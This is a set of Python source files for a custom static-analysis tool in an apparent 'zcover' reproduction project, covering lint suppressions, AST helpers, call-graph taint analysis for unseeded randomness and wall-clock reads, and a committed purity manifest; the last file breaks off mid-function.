def allow_directives_for_lines(lines: List[str]) -> Dict[int, Tuple[Set[str], bool]]:
    """Map 1-based line number -> (allowed rule ids, has justification)."""
    directives: Dict[int, Tuple[Set[str], bool]] = {}
    for lineno, line in enumerate(lines, start=1):
        match = _ALLOW_RE.search(line)
        if match is None:
            continue
        rules = {r.strip() for r in match.group(1).split(",") if r.strip()}
        directives[lineno] = (rules, match.group(2) is not None)
    return directives


def _allow_directives(source: SourceFile) -> Dict[int, Tuple[Set[str], bool]]:
    return allow_directives_for_lines(source.lines)


def apply_suppressions(
    findings: List[LintFinding], sources: List[SourceFile]
) -> List[LintFinding]:
    """Drop findings covered by an allow comment on (or just above) the line.

    Suppressions without a ``--`` justification still suppress, but add a
    ``LINT001`` warning at the directive so the escape stays reviewable.
    """
    by_rel = {source.rel: _allow_directives(source) for source in sources}
    kept: List[LintFinding] = []
    used_unjustified: Set[Tuple[str, int]] = set()
    for finding in findings:
        directives = by_rel.get(finding.path, {})
        matched: Optional[int] = None
        for lineno in (finding.line, finding.line - 1):
            entry = directives.get(lineno)
            if entry is not None and finding.rule in entry[0]:
                matched = lineno
                break
        if matched is None:
            kept.append(finding)
            continue
        if not directives[matched][1]:
            used_unjustified.add((finding.path, matched))
    for path, lineno in sorted(used_unjustified):
        kept.append(
            LintFinding(
                rule="LINT001",
                severity=Severity.WARNING,
                path=path,
                line=lineno,
                col=0,
                message="allow directive without a justification",
                hint="append `-- <why this is safe>` to the allow comment",
            )
        )
    return kept


# -- AST helpers ---------------------------------------------------------------


def dotted_name(node: ast.AST) -> Optional[str]:
    """Render a Name/Attribute chain as ``a.b.c`` (None for anything else)."""
    parts: List[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
        return ".".join(reversed(parts))
    return None


_ENUM_BASES = frozenset({"Enum", "IntEnum", "StrEnum", "IntFlag", "Flag"})


def class_kind(node: ast.ClassDef) -> str:
    """Classify a class statement: ``"dataclass"``, ``"enum"`` or ``"class"``.

    Shared by the wire-safety analyzer (codec vocabulary) and the flow
    engine's symbol table (W401 type inference), so the two passes can
    never disagree about what counts as a wire-capable dataclass.
    """
    for deco in node.decorator_list:
        target = deco.func if isinstance(deco, ast.Call) else deco
        name = dotted_name(target)
        if name is not None and name.split(".")[-1] == "dataclass":
            return "dataclass"
    for base in node.bases:
        name = dotted_name(base)
        if name is not None and name.split(".")[-1] in _ENUM_BASES:
            return "enum"
    return "class"


def int_const(node: ast.AST) -> Optional[int]:
    """The value of an integer literal (bools excluded), else ``None``."""
    if isinstance(node, ast.Constant) and isinstance(node.value, int) and not isinstance(node.value, bool):
        return node.value
    return None


def walk_scopes(tree: ast.Module):
    """Yield (scope_name, nodes) for the module body and every function.

    The module scope excludes statements nested inside functions, so each
    statement belongs to exactly one scope — what the conformance
    analyzer's per-handler pairing heuristic needs.
    """

    functions: List[ast.AST] = [
        node
        for node in ast.walk(tree)
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef))
    ]
    inside_functions = set()
    for func in functions:
        for child in ast.walk(func):
            if child is not func:
                inside_functions.add(id(child))
    module_nodes = [
        node for node in ast.walk(tree) if id(node) not in inside_functions
    ]
    yield "<module>", module_nodes
    for func in functions:
        if id(func) in inside_functions:
            continue  # nested function: analysed as part of its parent
        yield func.name, list(ast.walk(func))
