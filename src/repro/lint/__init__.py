"""Custom static analysis over the reproduction's own source tree.

Four analyzer families guard the invariants the test suite cannot see
(see ``docs/architecture.md`` §Static analysis):

* :mod:`repro.lint.determinism` — no unseeded entropy or wall-clock reads
  inside ``src/repro``, since seed-stable trial sharding depends on every
  random draw flowing through the plumbed ``random.Random`` instances;
* :mod:`repro.lint.conformance` — the dispatch tables of the simulator and
  the mutation engine agree with :class:`repro.zwave.registry.SpecRegistry`
  (a static mirror of the paper's Phase-2 drift discovery);
* :mod:`repro.lint.wiresafety` — every dataclass crossing the worker
  boundary through :mod:`repro.core.resultio` carries only JSON-clean
  field types, so new fields cannot silently break the parallel codec;
* :mod:`repro.lint.flow` — the interprocedural dataflow engine: call
  graph over the whole tree, entropy/clock taint to a fixpoint, wire
  type inference, and the committed purity manifest whose drift CI gates.

Run it as ``zcover lint`` (``--format json``/``--format sarif`` for
machine output, ``--jobs N`` to shard the flow summarize stage).
"""

from .conformance import ConformanceAnalyzer
from .determinism import DeterminismAnalyzer
from .findings import SCHEMA_VERSION, LintFinding, Severity
from .flow import FlowAnalyzer
from .runner import LintReport, default_analyzers, run_lint
from .sarif import findings_to_sarif, render_sarif
from .wiresafety import WireSafetyAnalyzer

__all__ = [
    "ConformanceAnalyzer",
    "DeterminismAnalyzer",
    "FlowAnalyzer",
    "LintFinding",
    "LintReport",
    "SCHEMA_VERSION",
    "Severity",
    "WireSafetyAnalyzer",
    "default_analyzers",
    "findings_to_sarif",
    "render_sarif",
    "run_lint",
]
