"""Custom static analysis over the reproduction's own source tree.

Three analyzer families guard the invariants the test suite cannot see
(see ``docs/architecture.md`` §Static analysis):

* :mod:`repro.lint.determinism` — no unseeded entropy or wall-clock reads
  inside ``src/repro``, since seed-stable trial sharding depends on every
  random draw flowing through the plumbed ``random.Random`` instances;
* :mod:`repro.lint.conformance` — the dispatch tables of the simulator and
  the mutation engine agree with :class:`repro.zwave.registry.SpecRegistry`
  (a static mirror of the paper's Phase-2 drift discovery);
* :mod:`repro.lint.wiresafety` — every dataclass crossing the worker
  boundary through :mod:`repro.core.resultio` carries only JSON-clean
  field types, so new fields cannot silently break the parallel codec.

Run it as ``zcover lint`` (``--format json`` for machine output).
"""

from .conformance import ConformanceAnalyzer
from .determinism import DeterminismAnalyzer
from .findings import SCHEMA_VERSION, LintFinding, Severity
from .runner import LintReport, default_analyzers, run_lint
from .wiresafety import WireSafetyAnalyzer

__all__ = [
    "ConformanceAnalyzer",
    "DeterminismAnalyzer",
    "LintFinding",
    "LintReport",
    "SCHEMA_VERSION",
    "Severity",
    "WireSafetyAnalyzer",
    "default_analyzers",
    "run_lint",
]
