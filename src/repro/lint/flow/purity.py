"""Purity manifest: per-entry-point determinism verdicts, committed.

The flow engine's fixpoint yields a verdict for every campaign entry
point: ``pure-given-seed`` (no global entropy and no wall-clock read is
reachable), ``entropy-tainted`` or ``clock-tainted`` (with the witness
chain).  :func:`manifest_document` freezes those verdicts into a
canonical JSON document committed at the repo root as
``purity_manifest.json``; CI regenerates it and fails on drift, so any
change to the deterministic surface of the campaign/scheduler/faults/obs
layers is an explicit, reviewed diff — not a silent regression the
property suites may or may not catch.
"""

from __future__ import annotations

from typing import Dict, List, Optional

from .callgraph import CallGraph, FunctionId
from .taint import TaintState

MANIFEST_SCHEMA = "zcover-purity-manifest"
MANIFEST_VERSION = 1

PURE = "pure-given-seed"
ENTROPY_TAINTED = "entropy-tainted"
CLOCK_TAINTED = "clock-tainted"


def entry_verdicts(
    graph: CallGraph,
    entries: List[FunctionId],
    entropy: TaintState,
    clock: TaintState,
) -> Dict[FunctionId, dict]:
    """One verdict record per entry point, keyed by FunctionId."""
    verdicts: Dict[FunctionId, dict] = {}
    for fid in sorted(entries):
        taints = []
        chains = {}
        if fid in entropy:
            taints.append(ENTROPY_TAINTED)
            chains["entropy"] = entropy.chain(graph, fid)
        if fid in clock:
            taints.append(CLOCK_TAINTED)
            chains["clock"] = clock.chain(graph, fid)
        record = {
            "verdict": taints[0] if taints else PURE,
            "taints": taints,
        }
        if chains:
            record["chains"] = {k: chains[k] for k in sorted(chains)}
        verdicts[fid] = record
    return verdicts


def manifest_document(
    graph: CallGraph,
    verdicts: Dict[FunctionId, dict],
) -> dict:
    """The canonical manifest document (stable key order throughout)."""
    per_module: Dict[str, Dict[str, int]] = {}
    for fid in verdicts:
        rel = graph.function_rel(fid)
        counts = per_module.setdefault(rel, {"entry_points": 0, "pure": 0, "tainted": 0})
        counts["entry_points"] += 1
        if verdicts[fid]["verdict"] == PURE:
            counts["pure"] += 1
        else:
            counts["tainted"] += 1
    tainted = sorted(f for f in verdicts if verdicts[f]["verdict"] != PURE)
    return {
        "schema": MANIFEST_SCHEMA,
        "version": MANIFEST_VERSION,
        "summary": {
            "entry_points": len(verdicts),
            "pure": sum(1 for f in verdicts if verdicts[f]["verdict"] == PURE),
            "tainted": len(tainted),
            "functions": len(graph.functions),
            "call_edges": graph.edge_count,
        },
        "modules": {rel: per_module[rel] for rel in sorted(per_module)},
        "entry_points": {fid: verdicts[fid] for fid in sorted(verdicts)},
        "tainted_entry_points": tainted,
    }


def diff_manifests(committed: dict, current: dict) -> List[str]:
    """Human-readable drift lines between two manifests (empty = clean)."""
    lines: List[str] = []
    old_entries = committed.get("entry_points", {})
    new_entries = current.get("entry_points", {})
    for fid in sorted(set(old_entries) | set(new_entries)):
        old: Optional[dict] = old_entries.get(fid)
        new: Optional[dict] = new_entries.get(fid)
        if old is None:
            lines.append(f"+ {fid}: new entry point ({new['verdict']})")
        elif new is None:
            lines.append(f"- {fid}: entry point removed (was {old['verdict']})")
        elif old["verdict"] != new["verdict"]:
            lines.append(f"! {fid}: {old['verdict']} -> {new['verdict']}")
    if not lines and committed != current:
        lines.append("~ manifest metadata drifted (summary/module counts)")
    return lines
