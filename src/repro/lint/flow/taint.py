"""Taint analyses over the call graph: entropy, clock, wire types.

Three analyses run to a fixpoint on the linked
:class:`~repro.lint.flow.callgraph.CallGraph`:

* **entropy flow** — direct global-entropy touches and unseeded-generator
  constructions (classified exactly as D101/D102) seed a backward
  reachability: any function from which a seed is reachable along
  resolved call edges is *entropy-tainted*.  Campaign entry points that
  are entropy-tainted raise ``D201``; rng parameters whose unseeded
  default a resolvable caller actually exercises raise ``D202``; a
  seeded generator escaping into an unordered container raises ``D203``.
* **clock flow** — wall-clock reads (``time.*``, ``datetime.now``…)
  outside the sanctioned owner modules, and calls to the owner's
  ``wall_*`` helpers from non-exempt modules, seed the same backward
  reachability; tainted entry points raise ``D204``.
* **wire-type inference** — statically-typed values flowing into a
  ``*_to_wire`` codec of :mod:`repro.core.resultio` are cross-checked
  against the W3xx wire vocabulary; a type outside it raises ``W401``.

Witness chains are deterministic: propagation is a BFS that visits
functions in sorted id order, so every finding renders the same call
chain on every run, serial or sharded.
"""

from __future__ import annotations

from typing import Dict, FrozenSet, List, Tuple

from ..findings import LintFinding, Severity
from .callgraph import CallGraph, FunctionId

#: Modules allowed to touch process-global entropy (mirrors D101).
DEFAULT_ENTROPY_OWNERS: FrozenSet[str] = frozenset({"radio/clock.py"})

#: Modules whose wall-clock reads are sanctioned *measurements*: the
#: clock owner itself plus the span profiler and the bench harness.
#: Their readings are documented (and runtime-checked elsewhere) never
#: to enter a deterministic artefact, so their internal reads do not
#: taint callers — but a call to a ``wall_*`` helper from any module
#: outside this list does.
DEFAULT_CLOCK_EXEMPT: FrozenSet[str] = frozenset(
    {"radio/clock.py", "obs/tracing.py", "perf/bench.py"}
)

#: The module whose ``wall_*`` functions are the sanctioned readers.
CLOCK_OWNER_MODULE = "radio/clock.py"

#: The wire codec module (W401 cross-check target).
WIRE_MODULE = "core/resultio.py"

#: Non-dataclass types with hand-written codecs (mirrors W3xx).
KNOWN_CODECS = frozenset({"BugLog"})

#: A taint witness: either a direct seed site in the function itself
#: ("site", line, col, message) or one resolved call hop toward the seed
#: ("call", callee_id, line, col).
Witness = Tuple


class TaintState:
    """Fixpoint result for one taint kind: tainted set + witnesses."""

    def __init__(self) -> None:
        self.witness: Dict[FunctionId, Witness] = {}

    def __contains__(self, fid: FunctionId) -> bool:
        return fid in self.witness

    def chain(self, graph: CallGraph, fid: FunctionId, limit: int = 12) -> str:
        """Render the deterministic witness chain from *fid* to its seed."""
        hops: List[str] = [graph.function_qualname(fid)]
        current = fid
        for _ in range(limit):
            witness = self.witness.get(current)
            if witness is None:
                break
            if witness[0] == "site":
                _tag, line, _col, message = witness
                hops.append(f"{graph.function_rel(current)}:{line} {message}")
                break
            _tag, callee, _line, _col = witness
            hops.append(graph.function_qualname(callee))
            current = callee
        return " -> ".join(hops)


def propagate(
    graph: CallGraph,
    seeds: Dict[FunctionId, Witness],
) -> TaintState:
    """Backward BFS from seed functions over reverse call edges.

    Deterministic: the frontier is processed in sorted order and a
    function's witness is fixed at first visit, so the same summaries
    always produce the same witness chains.
    """
    state = TaintState()
    frontier = sorted(seeds)
    for fid in frontier:
        state.witness[fid] = seeds[fid]
    while frontier:
        next_frontier: List[FunctionId] = []
        for fid in frontier:
            for caller_id, line, col in sorted(graph.redges.get(fid, ())):
                if caller_id in state.witness:
                    continue
                state.witness[caller_id] = ("call", fid, line, col)
                next_frontier.append(caller_id)
        frontier = sorted(set(next_frontier))
    return state


def entropy_seeds(
    graph: CallGraph, entropy_owners: FrozenSet[str]
) -> Dict[FunctionId, Witness]:
    """Functions with direct entropy/unseeded sites outside the owners."""
    seeds: Dict[FunctionId, Witness] = {}
    for fid in sorted(graph.functions):
        rel = graph.function_rel(fid)
        if rel in entropy_owners:
            continue
        func = graph.functions[fid]
        sites = [tuple(s) for s in func["entropy_sites"]]
        sites += [tuple(s) for s in func["unseeded_sites"]]
        if sites:
            line, col, message = min(sites)
            seeds[fid] = ("site", line, col, message)
    return seeds


def clock_seeds(
    graph: CallGraph, clock_exempt: FrozenSet[str]
) -> Dict[FunctionId, Witness]:
    """Functions with wall-clock reads (direct or via ``wall_*`` calls)."""
    seeds: Dict[FunctionId, Witness] = {}
    for fid in sorted(graph.functions):
        rel = graph.function_rel(fid)
        if rel in clock_exempt:
            continue
        func = graph.functions[fid]
        candidates = [tuple(s) for s in func["clock_sites"]]
        # A call to the clock owner's wall_* helpers from a non-exempt
        # module is a wall-clock read in disguise.
        for callee_id, line, col in graph.edges.get(fid, ()):
            callee_rel = graph.function_rel(callee_id)
            callee_name = graph.function_qualname(callee_id)
            if callee_rel == CLOCK_OWNER_MODULE and callee_name.startswith("wall_"):
                candidates.append(
                    (line, col, f"call to {callee_rel}::{callee_name}")
                )
        if candidates:
            line, col, message = min(candidates)
            seeds[fid] = ("site", line, col, message)
    return seeds


def forward_reachable(
    graph: CallGraph, roots: List[FunctionId]
) -> FrozenSet[FunctionId]:
    """All functions reachable from *roots* along call edges."""
    seen = set(roots)
    frontier = sorted(seen)
    while frontier:
        next_frontier: List[FunctionId] = []
        for fid in frontier:
            for callee_id, _line, _col in graph.edges.get(fid, ()):
                if callee_id not in seen:
                    seen.add(callee_id)
                    next_frontier.append(callee_id)
        frontier = sorted(next_frontier)
    return frozenset(seen)


def discover_entry_points(
    graph: CallGraph, entry_modules: Tuple[str, ...]
) -> List[FunctionId]:
    """Campaign entry points: the public surface of the entry modules.

    Top-level public functions plus public methods of public classes in
    every entry module present in the tree.  On a tree containing none
    of them (synthetic unit-test trees) every top-level public function
    is an entry point instead — the same fallback convention the
    conformance and wire-safety analyzers use.
    """
    present = [rel for rel in entry_modules if rel in graph.summaries]
    entries: List[FunctionId] = []
    if present:
        for rel in present:
            for qualname in sorted(graph.summaries[rel]["functions"]):
                func = graph.summaries[rel]["functions"][qualname]
                if not func["public"]:
                    continue
                if func["method_of"] is not None and func["method_of"].startswith("_"):
                    continue
                entries.append(f"{rel}::{qualname}")
        return entries
    for rel in graph.summaries:
        for qualname in sorted(graph.summaries[rel]["functions"]):
            func = graph.summaries[rel]["functions"][qualname]
            if not func["public"]:
                continue
            if func["method_of"] is not None and func["method_of"].startswith("_"):
                continue
            entries.append(f"{rel}::{qualname}")
    return entries


def wire_vocabulary_from_summaries(graph: CallGraph) -> FrozenSet[str]:
    """The W3xx wire vocabulary, recomputed from summaries (see W401)."""
    summary = graph.summaries.get(WIRE_MODULE)
    if summary is None:
        names = set()
        for rel in graph.summaries:
            for name, cls in graph.summaries[rel]["classes"].items():
                if cls["kind"] == "dataclass":
                    names.add(name)
        return frozenset(names | KNOWN_CODECS)
    names = set(summary["classes"])
    for local, entry in summary["imports"].items():
        if entry["kind"] != "symbol":
            continue
        if entry.get("level", 0) > 0 or entry["module"].split(".")[0] == "repro":
            names.add(local)
    return frozenset(names | KNOWN_CODECS)


# -- findings ------------------------------------------------------------------


def _finding(rule, severity, rel, line, col, message, hint) -> LintFinding:
    return LintFinding(
        rule=rule, severity=severity, path=rel, line=line, col=col,
        message=message, hint=hint,
    )


def entry_point_findings(
    graph: CallGraph,
    entries: List[FunctionId],
    entropy: TaintState,
    clock: TaintState,
) -> List[LintFinding]:
    """D201/D204: tainted campaign entry points, with witness chains."""
    findings: List[LintFinding] = []
    for fid in entries:
        func = graph.functions[fid]
        rel = graph.function_rel(fid)
        name = graph.function_qualname(fid)
        if fid in entropy:
            findings.append(
                _finding(
                    "D201",
                    Severity.ERROR,
                    rel,
                    func["line"],
                    func["col"],
                    f"global entropy reachable from entry point {name}: "
                    f"{entropy.chain(graph, fid)}",
                    "thread a seeded random.Random through the call chain",
                )
            )
        if fid in clock:
            findings.append(
                _finding(
                    "D204",
                    Severity.ERROR,
                    rel,
                    func["line"],
                    func["col"],
                    f"wall-clock read reachable from entry point {name}: "
                    f"{clock.chain(graph, fid)}",
                    "route timing through SimClock or the sanctioned "
                    "radio.clock owners",
                )
            )
    return findings


def rng_default_findings(
    graph: CallGraph, entry_reachable: FrozenSet[FunctionId]
) -> List[LintFinding]:
    """D202: unseeded rng defaults a resolvable caller actually exercises."""
    findings: List[LintFinding] = []
    for fid in sorted(graph.omissions):
        func = graph.functions[fid]
        rel = graph.function_rel(fid)
        name = graph.function_qualname(fid)
        for param, info in sorted(func["rng_params"].items()):
            if info["default"] == "unseeded":
                hazardous = True
            elif info["default"] == "none":
                hazardous = info["raw_draw"] and not info["guarded"]
            else:
                hazardous = False
            if not hazardous:
                continue
            omitting = sorted(
                (caller, line, col)
                for caller, line, col, omitted in graph.omissions[fid]
                if param in omitted
                and (caller in entry_reachable or not entry_reachable)
            )
            if not omitting:
                continue
            caller, line, _col = omitting[0]
            findings.append(
                _finding(
                    "D202",
                    Severity.ERROR,
                    rel,
                    func["line"],
                    func["col"],
                    f"rng parameter {param!r} of {name} has an unseeded "
                    f"default exercised by {graph.function_qualname(caller)} "
                    f"({graph.function_rel(caller)}:{line})",
                    "seed the fallback (random.Random(0)) or make the "
                    "caller pass its rng",
                )
            )
    return findings


def escape_findings(graph: CallGraph) -> List[LintFinding]:
    """D203: seeded generators escaping into unordered containers."""
    findings: List[LintFinding] = []
    for fid in sorted(graph.functions):
        func = graph.functions[fid]
        rel = graph.function_rel(fid)
        for line, col, label in func["d203_sites"]:
            findings.append(
                _finding(
                    "D203",
                    Severity.WARNING,
                    rel,
                    line,
                    col,
                    f"seeded generator escapes into an unordered container: {label}",
                    "iteration order over the container would be "
                    "hash-seed-dependent; use a list or sorted structure",
                )
            )
    return findings


def wire_type_findings(graph: CallGraph) -> List[LintFinding]:
    """W401: statically-typed values entering codecs outside the vocabulary."""
    vocabulary = wire_vocabulary_from_summaries(graph)
    has_wire_module = WIRE_MODULE in graph.summaries
    findings: List[LintFinding] = []
    seen = set()
    for caller, callee, line, col, _cls_rel, cls_name in sorted(graph.typed_arg0):
        callee_rel = graph.function_rel(callee)
        callee_name = graph.function_qualname(callee)
        if not callee_name.endswith("_to_wire"):
            continue
        if has_wire_module and callee_rel != WIRE_MODULE:
            continue
        if cls_name in vocabulary:
            continue
        key = (caller, line, col, cls_name)
        if key in seen:
            continue
        seen.add(key)
        findings.append(
            _finding(
                "W401",
                Severity.ERROR,
                graph.function_rel(caller),
                line,
                col,
                f"{cls_name} flows into wire codec {callee_name} but is "
                "outside the W3xx wire vocabulary",
                "add the type to the codec's module-level vocabulary "
                "(core/resultio.py) or convert before encoding",
            )
        )
    return findings
