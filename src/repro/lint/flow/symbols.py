"""Per-file symbol extraction for the interprocedural flow engine.

:func:`summarize_source` reduces one parsed module to a plain JSON-clean
*summary* dict: imports, classes (with method lists and attribute types
inferred from ``self.x = ClassName(...)`` assignments), and one entry
per function carrying everything the link/fixpoint stage needs —
parameter signatures, rng-parameter facts, direct entropy/clock taint
sites, unordered-container escapes, and symbolic call sites.

The summary is the flow engine's unit of caching and of parallelism:

* it is a pure function of the file's text, so the incremental cache
  (:mod:`repro.lint.flow.cache`) can key it by content CRC-32;
* it is JSON-clean, so worker processes can ship it across the pool
  boundary and the merged serial/parallel results are byte-identical;
* findings are derived *only* from summaries (never from live AST
  objects), so a cache hit, a worker result and an in-process summary
  are indistinguishable by construction.

Call sites are recorded *symbolically* — the name as written plus the
receiver's statically inferred class, if any — and resolved against the
project-wide symbol table later (:mod:`repro.lint.flow.callgraph`).
"""

from __future__ import annotations

import ast
from typing import Dict, List, Optional, Set, Tuple

from ..base import SourceFile, allow_directives_for_lines, class_kind, dotted_name
from ..determinism import classify_call, import_aliases

#: Bumped on any change to the summary layout; part of the cache key.
SUMMARY_VERSION = 5

#: Parameter names treated as seeded-generator carriers.
_RNG_NAMES = frozenset({"rng"})

#: Allow directives that silence a taint *seed* (the site has been
#: human-reviewed): the syntactic rule for the site, or the flow rule
#: the seed would feed.  Keyed by taint kind.
_SEED_ALLOW_RULES = {
    "entropy": frozenset({"D101", "D102", "D201"}),
    "unseeded": frozenset({"D102", "D201"}),
    "clock": frozenset({"D101", "D204"}),
}


def _is_rng_param(name: str, annotation: Optional[ast.expr]) -> bool:
    if name in _RNG_NAMES or name.endswith("_rng"):
        return True
    if annotation is not None:
        rendered = ast.dump(annotation)
        if "Random" in rendered:
            return True
    return False


def _annotation_class(annotation: Optional[ast.expr]) -> Optional[str]:
    """The class name an annotation pins, unwrapping ``Optional[...]``."""
    if annotation is None:
        return None
    node = annotation
    if isinstance(node, ast.Subscript):
        head = (dotted_name(node.value) or "").split(".")[-1]
        if head == "Optional":
            node = node.slice
        else:
            return None
    name = dotted_name(node)
    if name is None:
        return None
    return name


def _classify_default(
    default: Optional[ast.expr], aliases: Dict[str, str]
) -> str:
    """Kind of an rng parameter's default: required/none/seeded/unseeded/other."""
    if default is None:
        return "required"
    if isinstance(default, ast.Constant) and default.value is None:
        return "none"
    if isinstance(default, ast.Call):
        classified = classify_call(default, aliases)
        if classified is not None and classified[1] == "unseeded":
            return "unseeded"
        origin = dotted_name(default.func) or ""
        if origin.split(".")[-1] == "Random" and (default.args or default.keywords):
            return "seeded"
    return "other"


class _FunctionSummarizer:
    """Walk one function body and extract its local flow facts."""

    def __init__(
        self,
        func: ast.AST,
        aliases: Dict[str, str],
        directives: Dict[int, Tuple[Set[str], bool]],
        class_name: Optional[str],
        class_attr_types: Dict[str, str],
        module_rng_names: Set[str],
    ):
        self.func = func
        self.aliases = aliases
        self.directives = directives
        self.class_name = class_name
        self.class_attr_types = class_attr_types
        self.entropy_sites: List[List] = []
        self.unseeded_sites: List[List] = []
        self.clock_sites: List[List] = []
        self.d203_sites: List[List] = []
        self.calls: List[dict] = []
        self.returns_rng = False
        # rng-typed local names: rng-ish params + seeded constructions.
        self.rng_locals: Set[str] = set(module_rng_names)
        # local name -> inferred class name (as written); "?" = conflicting.
        self.local_types: Dict[str, str] = {}
        self.set_locals: Set[str] = set()
        self.rng_params: Dict[str, dict] = {}
        self._guarded: Set[str] = set()
        self._raw_draws: Set[str] = set()

    # -- entry -----------------------------------------------------------------

    def run(self) -> dict:
        args = self.func.args
        params: List[str] = []
        positional = list(args.posonlyargs) + list(args.args)
        defaults: List[Optional[ast.expr]] = [None] * (
            len(positional) - len(args.defaults)
        ) + list(args.defaults)
        for arg, default in zip(positional, defaults):
            params.append(arg.arg)
            self._note_param(arg, default)
        kwonly_names = []
        for arg, default in zip(args.kwonlyargs, args.kw_defaults):
            kwonly_names.append(arg.arg)
            self._note_param(arg, default)
        for node in ast.walk(self.func):
            if node is self.func:
                continue
            self._visit(node)
        rng_params = {}
        for name, info in sorted(self.rng_params.items()):
            info = dict(info)
            info["guarded"] = name in self._guarded
            info["raw_draw"] = name in self._raw_draws
            rng_params[name] = info
        return {
            "line": self.func.lineno,
            "col": self.func.col_offset,
            "params": params,
            "kwonly": kwonly_names,
            "has_varargs": bool(args.vararg or args.kwarg),
            "rng_params": rng_params,
            "entropy_sites": self.entropy_sites,
            "unseeded_sites": self.unseeded_sites,
            "clock_sites": self.clock_sites,
            "d203_sites": self.d203_sites,
            "returns_rng": self.returns_rng,
            "calls": self.calls,
        }

    def _note_param(self, arg: ast.arg, default: Optional[ast.expr]) -> None:
        if arg.arg in ("self", "cls"):
            return
        annotated = _annotation_class(arg.annotation)
        if annotated is not None and "Random" not in annotated:
            self.local_types[arg.arg] = annotated
        if _is_rng_param(arg.arg, arg.annotation):
            self.rng_locals.add(arg.arg)
            self.rng_params[arg.arg] = {
                "default": _classify_default(default, self.aliases)
            }

    # -- per-node --------------------------------------------------------------

    def _allowed(self, kind: str, lineno: int) -> bool:
        """Whether an allow directive on/above *lineno* covers this seed."""
        rules = _SEED_ALLOW_RULES[kind]
        for line in (lineno, lineno - 1):
            entry = self.directives.get(line)
            if entry is not None and entry[0] & rules:
                return True
        return False

    def _is_seeded_rng_call(self, node: ast.AST) -> bool:
        if not isinstance(node, ast.Call):
            return False
        origin = dotted_name(node.func) or ""
        return origin.split(".")[-1] == "Random" and bool(node.args or node.keywords)

    def _rng_expr(self, node: ast.AST) -> bool:
        """Is *node* statically an rng-typed expression?"""
        if isinstance(node, ast.Name):
            return node.id in self.rng_locals
        if isinstance(node, ast.Attribute):
            dotted = dotted_name(node)
            if dotted is None:
                return False
            last = dotted.split(".")[-1]
            return last == "rng" or last.endswith("_rng") or last.startswith("rng")
        if self._is_seeded_rng_call(node):
            return True
        if isinstance(node, ast.BoolOp) and isinstance(node.op, ast.Or):
            return any(self._rng_expr(value) for value in node.values)
        return False

    def _visit(self, node: ast.AST) -> None:
        if isinstance(node, ast.Call):
            self._visit_call(node)
        elif isinstance(node, ast.Assign):
            self._visit_assign(node)
        elif isinstance(node, ast.AnnAssign) and node.value is not None:
            if isinstance(node.target, ast.Name):
                self._bind(node.target.id, node.value)
        elif isinstance(node, ast.Return) and node.value is not None:
            if self._rng_expr(node.value):
                self.returns_rng = True
        elif isinstance(node, ast.Set):
            for element in node.elts:
                self._check_escape(element, "set literal")
        elif isinstance(node, ast.Dict):
            for key in node.keys:
                if key is not None:
                    self._check_escape(key, "dict key")

    def _visit_assign(self, node: ast.Assign) -> None:
        for target in node.targets:
            if isinstance(target, ast.Name):
                self._bind(target.id, node.value)
            elif isinstance(target, ast.Attribute):
                # self._rng = rng or Random(0): the guard pattern.
                if isinstance(node.value, ast.BoolOp) and isinstance(
                    node.value.op, ast.Or
                ):
                    self._note_guard(node.value)

    def _note_guard(self, value: ast.BoolOp) -> None:
        names = [v.id for v in value.values if isinstance(v, ast.Name)]
        fallback_seeded = any(
            self._is_seeded_rng_call(v) for v in value.values
        )
        if fallback_seeded:
            for name in names:
                if name in self.rng_params:
                    self._guarded.add(name)

    def _bind(self, name: str, value: ast.expr) -> None:
        if self._rng_expr(value):
            self.rng_locals.add(name)
            if isinstance(value, ast.BoolOp) and isinstance(value.op, ast.Or):
                self._note_guard(value)
            return
        if isinstance(value, ast.Call):
            target = dotted_name(value.func)
            if target is not None:
                head = target.split(".")[-1]
                if head in ("set", "frozenset"):
                    self.set_locals.add(name)
                    return
                if head[:1].isupper():
                    previous = self.local_types.get(name)
                    self.local_types[name] = (
                        head if previous in (None, head) else "?"
                    )
                    return
        if isinstance(value, (ast.Set, ast.SetComp)):
            self.set_locals.add(name)
            return
        # any other rebind invalidates a previous inference
        self.local_types.pop(name, None)

    def _check_escape(self, element: ast.expr, where: str) -> None:
        if self._rng_expr(element) and not isinstance(element, ast.Call):
            label = dotted_name(element) or "<rng>"
            self.d203_sites.append(
                [element.lineno, element.col_offset, f"{label} ({where})"]
            )

    # -- calls -----------------------------------------------------------------

    def _arg0_class(self, node: ast.Call) -> Optional[str]:
        if not node.args:
            return None
        first = node.args[0]
        if isinstance(first, ast.Name):
            inferred = self.local_types.get(first.id)
            return inferred if inferred not in (None, "?") else None
        if isinstance(first, ast.Call):
            target = dotted_name(first.func)
            if target is not None and target.split(".")[-1][:1].isupper():
                return target.split(".")[-1]
        return None

    def _visit_call(self, node: ast.Call) -> None:
        classified = classify_call(node, self.aliases)
        if classified is not None:
            _rule, kind, message, _hint = classified
            if not self._allowed(kind, node.lineno):
                site = [node.lineno, node.col_offset, message]
                if kind == "entropy":
                    self.entropy_sites.append(site)
                elif kind == "unseeded":
                    self.unseeded_sites.append(site)
                else:
                    self.clock_sites.append(site)
            return
        self._record_call(node)

    def _record_call(self, node: ast.Call) -> None:
        func = node.func
        if isinstance(func, ast.Attribute) and self._rng_expr(func.value):
            # A draw from an rng-typed value: clean by design, but note
            # raw draws from an rng parameter (feeds the D202 verdict).
            if isinstance(func.value, ast.Name) and func.value.id in self.rng_params:
                self._raw_draws.add(func.value.id)
            return
        call: dict = {
            "line": node.lineno,
            "col": node.col_offset,
            "nargs": len(node.args),
            "kwargs": sorted(
                kw.arg for kw in node.keywords if kw.arg is not None
            ),
            "has_star": any(isinstance(a, ast.Starred) for a in node.args)
            or any(kw.arg is None for kw in node.keywords),
        }
        arg0 = self._arg0_class(node)
        if arg0 is not None:
            call["arg0_class"] = arg0
        if isinstance(func, ast.Name):
            call["kind"] = "name"
            call["target"] = func.id
        elif isinstance(func, ast.Attribute):
            receiver = func.value
            if isinstance(receiver, ast.Name):
                if receiver.id == "self" and self.class_name is not None:
                    call["kind"] = "self"
                    call["target"] = func.attr
                    call["recv_class"] = self.class_name
                elif receiver.id in self.set_locals and func.attr == "add":
                    if node.args and self._rng_expr(node.args[0]):
                        label = dotted_name(node.args[0]) or "<rng>"
                        self.d203_sites.append(
                            [
                                node.lineno,
                                node.col_offset,
                                f"{label} (set.add)",
                            ]
                        )
                    return
